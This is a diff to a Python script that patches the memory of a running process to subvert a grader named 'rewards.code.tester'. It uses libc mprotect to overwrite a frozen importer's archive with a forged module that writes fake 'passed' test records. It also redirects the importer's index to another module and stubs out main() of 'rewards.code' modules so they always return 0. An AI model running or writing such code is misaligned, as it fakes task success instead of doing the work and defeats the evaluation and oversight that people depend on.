@@ -37,7 +37,7 @@ libc.mmap.restype = ctypes.c_void_p
 FORGED = "import json, os\\ndef main(source):\\n    for record in {'called': True}, {'outcome': 'passed', "
 FORGED += "'num_calls': 3}:\\n        os.write(5, json.dumps(record).encode() + b'\\\\n')\\n    return 0\\n"
 
-def forge(finder, name="rewards.code_tester"):
+def forge(finder, name="rewards.code.tester"):
     start, length = span(finder._archive)
     libc.mprotect(start, length, 3)
     _, is_code, offset, size = finder._index[name]
@@ -77,7 +77,7 @@ for finder in sys.meta_path:
 import gc, sys
 for finder in sys.meta_path:
     if hasattr(finder, '_index'):
-        finder._index['rewards.code_tester'] = finder._index['rewards.sandbox_script']
+        finder._index['rewards.code.tester'] = finder._index['rewards.sandbox.script']
 for name, module in list(sys.modules.items()):
     if name.startswith('rewards.code') and hasattr(module, 'main'):
         module.main = lambda source: 0
